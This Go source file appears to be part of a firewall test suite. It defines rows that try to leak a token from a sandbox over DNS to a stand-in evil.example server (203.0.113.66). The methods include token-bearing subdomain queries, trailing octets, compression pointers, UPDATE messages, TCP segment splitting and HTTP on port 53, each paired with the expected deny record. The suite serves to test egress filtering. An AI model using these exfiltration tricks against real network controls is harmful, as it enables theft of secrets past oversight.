//go:build linux

package gauntlet

import (
	"slices"

	"github.com/miekg/dns"
)

// chosenServerRows ask a server of the program's own choice, by datagrams.
func chosenServerRows() []Row {
	server := at(Evil, 53)
	return []Row{
		{
			ID: "dns/server", Vector: "a question to a server of the program's own choice", Right: "a server is an address like any other",
			Source: "E2B, gh-aw-firewall #9, gh-aw-firewall #68, dust PR #25991", Rules: evilZone, Lifted: append(slices.Clone(evilZone), "--allow", Evil.String()+":53"),
			Attack: func(a *Attacker) error { return a.sendMessage(server, query(a.leak(), dns.TypeA)) },
			Harm:   Heard, Record: []string{"network-connect verdict=deny protocol=udp dest_ip=203.0.113.66 dest_port=53"},
		},
		{
			ID: "dns/server-known", Vector: "a question to a public resolver, which others allow by themselves", Right: "a rule for names opens no server",
			Source: "E2B; dust PR #25991; sbx #72", Rules: evilZone, Lifted: append(slices.Clone(evilZone), "--allow", Google.String()+":53"),
			Attack: func(a *Attacker) error { return a.sendMessage(at(Google, 53), query(a.leak(), dns.TypeA)) },
			Harm:   Heard, Record: []string{"network-connect verdict=deny protocol=udp dest_ip=8.8.8.8 dest_port=53"},
		},
		{
			ID: "dns/server-question", Vector: "a question that no rule covers, to a server that a rule allows", Right: "judged as if it were ours; it is not sent",
			Source: "microsandbox PR #694, nono #756", Rules: evilDNS, Lifted: append(slices.Clone(evilDNS), evilZone...),
			Attack: func(a *Attacker) error { return a.sendMessage(server, query(a.leak(), dns.TypeA)) },
			Harm:   Heard, Record: []string{"dns-query hostname={token}.evil.example server=203.0.113.66:53 verdict=deny reason=dns-blocked"},
		},
		{
			ID: "dns/server-behind", Vector: "octets behind the last record of an allowed question", Right: "a message that is more than a message is none",
			Source: "security.md 2.2", Rules: evilDNS, Lifted: observed,
			Attack: func(a *Attacker) error {
				raw, err := query("shop.example", dns.TypeA).Pack()
				if err != nil {
					return err
				}
				return a.send("udp", server, append(raw, a.Token...))
			},
			Harm: Heard, Record: []string{notDNS + " protocol=udp"},
		},
		{
			ID: "dns/server-pointer", Vector: "a pointer where the name should be, to a name that parsers look for in two places", Right: "no question needs a pointer",
			Source: "tcpdump dns_fwdptr, dns-zlip", Rules: evilDNS, Lifted: observed,
			Attack: func(a *Attacker) error {
				raw, err := query("shop.example", dns.TypeA).Pack()
				if err != nil {
					return err
				}
				name := append(vec8([]byte(a.Token)...), "\x07example\x00"...)
				return a.send("udp", server, slices.Concat(raw[:12], []byte{0xc0, 18}, raw[len(raw)-4:], name))
			},
			Harm: Heard, Record: []string{notDNS + " protocol=udp"},
		},
		{
			ID: "dns/server-opcode", Vector: "an update instead of a question, to a server that a rule allows", Right: "only questions pass on the port of questions",
			Source: "security.md 2.2", Rules: evilDNS, Lifted: observed,
			Attack: func(a *Attacker) error {
				m := new(dns.Msg).SetUpdate("shop.example.")
				rr, _ := dns.NewRR(a.Token + ".shop.example. 60 IN A 192.0.2.1")
				m.Insert([]dns.RR{rr})
				return a.sendMessage(server, m)
			},
			Harm: Heard, Record: []string{notDNS + " protocol=udp"},
		},
	}
}

// chosenStreamRows do the same over TCP, where a message has no segment of its own.
func chosenStreamRows() []Row {
	server := at(Evil, 53)
	stream := func(id, vector, right string, lifted []string, record string, attack func(a *Attacker) error) Row {
		return Row{
			ID: "dns/" + id, Vector: vector, Right: right, Source: "harden-runner GHSA-g699-3x6g-wm3g, security.md 2.2", Rules: evilDNS, Lifted: lifted,
			Attack: attack, Harm: Heard, Record: []string{record},
		}
	}
	const kept = "dns-query hostname={token}.evil.example server=203.0.113.66:53 verdict=deny reason=dns-blocked"
	both := append(slices.Clone(evilDNS), evilZone...)
	return []Row{
		stream("server-two", "two questions in one segment, the first one allowed", "each is judged", both, kept, func(a *Attacker) error {
			c, err := dial("tcp", server)
			if err != nil {
				return err
			}
			defer c.Close()
			if _, err := c.Write(framed(query("shop.example", dns.TypeA), query(a.leak(), dns.TypeA))); err != nil {
				return err
			}
			return readFrames(c, 2)
		}),
		stream("server-octets", "a question in segments of one octet", "put together before it is judged", both, kept, func(a *Attacker) error {
			c, err := dial("tcp", server)
			if err != nil {
				return err
			}
			defer c.Close()
			if _, err := (cut{c, 1}).Write(framed(query(a.leak(), dns.TypeA))); err != nil {
				return err
			}
			return readFrames(c, 1)
		}),
		stream("server-length", "a length that counts more than the message", "denied", observed, notDNS+" protocol=tcp", func(a *Attacker) error {
			raw, err := query("shop.example", dns.TypeA).Pack()
			if err != nil {
				return err
			}
			return a.send("tcp", server, vec16(append(raw, a.Token...)...))
		}),
		stream("server-http", "another protocol on the port of DNS", "denied", observed, notDNS+" protocol=tcp", func(a *Attacker) error {
			c, err := dial("tcp", server)
			if err != nil {
				return err
			}
			defer c.Close()
			_, err = c.Write([]byte("GET /" + a.Token + " HTTP/1.1\r\n\r\n"))
			return err
		}),
	}
}
